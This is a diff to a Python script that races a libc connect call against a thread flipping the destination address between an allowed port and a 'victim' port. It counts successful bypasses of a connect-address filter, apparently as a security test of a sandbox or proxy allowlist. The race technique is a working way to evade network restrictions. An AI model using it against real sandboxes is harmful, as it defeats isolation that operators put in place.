@@ -10,11 +10,14 @@ def address(port): return struct.pack("<H",2)+struct.pack(">H",port)+bytes([127,
 # An address that may be connected to, where there is one: the proxy's, or a server of this script.
 allowed=int(proxy) if proxy.isdigit() else 0
 if not allowed:
-    try: own.bind(("127.0.0.1",0)); own.listen(999); allowed=own.getsockname()[1]
+    def serve():
+        while 1: own.accept()[0].close()
+    try: own.bind(("127.0.0.1",0)); own.listen(999); allowed=own.getsockname()[1]; threading.Thread(target=serve,daemon=True).start()
     except OSError: allowed=1
 stop=[False]; won=[0]
 def reached(fd):
-    try: return socket.socket(fileno=os.dup(fd)).getpeername()[1]==victim
+    try:
+        with socket.socket(fileno=os.dup(fd)) as s: peer=s.getpeername(); return isinstance(peer,tuple) and peer[1]==victim
     except OSError: return False
 def memory(end):
     buf=ctypes.create_string_buffer(address(allowed),16); good,bad=address(allowed),address(victim); done=[0]
@@ -22,7 +25,7 @@ def memory(end):
         while not done[0]: ctypes.memmove(buf,bad,16); ctypes.memmove(buf,good,16)
     threading.Thread(target=flip,daemon=True).start()
     while time.time()<end:
-        s=socket.socket(); s.settimeout(1) if time.time()%1<.5 else None
+        s=socket.socket()
         if libc.connect(s.fileno(),buf,16)==0 and reached(s.fileno()): won[0]+=1
         s.close()
     done[0]=1
